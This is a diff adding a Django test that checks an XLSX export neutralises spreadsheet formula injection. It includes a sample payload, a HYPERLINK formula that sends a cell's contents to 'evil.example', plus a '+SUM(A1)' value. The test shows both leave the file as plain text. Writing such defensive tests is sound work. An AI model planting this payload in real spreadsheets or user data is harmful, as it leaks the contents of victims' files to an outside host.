@@ -2,12 +2,13 @@
 
 import datetime
 import io
+import zipfile
 
 import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from allervers.plan.documents.xlsx import FileFormatError, export_fiches, import_fiches
+from allervers.plan.documents.xlsx import PROGRESS_HEADER, FileFormatError, export_fiches, import_fiches
 from allervers.plan.enums import FicheStatus
 from allervers.plan.models import FicheAction
 from tests.factories import coordinator
@@ -113,3 +114,28 @@ def test_the_import_page_shows_the_error_report(client, small_plan):
     page = response.content.decode()
     assert "Import refusé : 1 erreur(s), rien n&#x27;a été écrit." in page
     assert "ligne 2, colonne « Pondération »" in page
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&D2,"Voir")'
+
+
+def test_a_formula_typed_as_a_title_is_downloaded_as_its_text_and_imported_back_unchanged(client, small_plan):
+    small_plan.alone.title = HYPERLINK
+    small_plan.alone.save()
+    small_plan.pilot.name = "+SUM(A1)"
+    small_plan.pilot.save()
+    client.force_login(coordinator())
+    response = client.get(reverse("plan:xlsx", args=[small_plan.plan.pk]))
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content))["Fiches"]
+    header = [cell.value for cell in sheet[1]]
+    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "1.1.2")
+    title, pilots = row[header.index("Intitulé")], row[header.index("Structures pilotes")]
+    assert (title.value, title.data_type) == (HYPERLINK, "s")
+    assert (pilots.value, pilots.data_type) == ("+SUM(A1)", "s")
+    assert row[header.index(PROGRESS_HEADER)].data_type == "n"
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+    report = import_fiches(small_plan.plan, "fiches.xlsx", response.content)
+    assert report.ok and (report.created, report.updated, report.unchanged) == (0, 0, 4)
+    assert FicheAction.objects.get(pk=small_plan.alone.pk).title == HYPERLINK
